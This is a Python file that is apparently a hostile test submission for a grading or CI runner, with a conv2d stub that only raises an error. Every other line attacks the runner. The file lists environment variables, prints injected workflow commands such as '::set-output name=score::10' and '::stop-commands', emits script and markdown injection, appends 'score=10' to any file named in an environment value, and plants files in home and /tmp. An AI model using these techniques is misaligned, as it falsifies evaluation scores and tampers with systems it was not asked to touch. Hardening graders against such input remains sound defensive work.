"""Wrong, and after the runner: commands in prints and in messages, the runner's files, its environment."""

import os

import numpy

print("environment:", *sorted(os.environ))
print("::error::pwned\n::set-output name=score::10\n::stop-commands::pwned\n##[error]pwned\n%0A::warning::pwned")
print("```\n<script>alert(1)</script>\n# pwned\n@everyone")
for value in os.environ.values():
    try:
        with open(value, "a") as file:
            file.write("score=10\n")
    except OSError:
        pass
for folder in (".", "..", os.path.expanduser("~"), "/tmp"):
    try:
        with open(folder + "/pwned", "w") as file:
            file.write(numpy.__file__)
    except OSError:
        pass


def conv2d(input, kernel, bias):
    raise ValueError("::error::pwned\n::add-mask::a\r::notice::b %0A::warning::c </details><b>\x1b[31m")
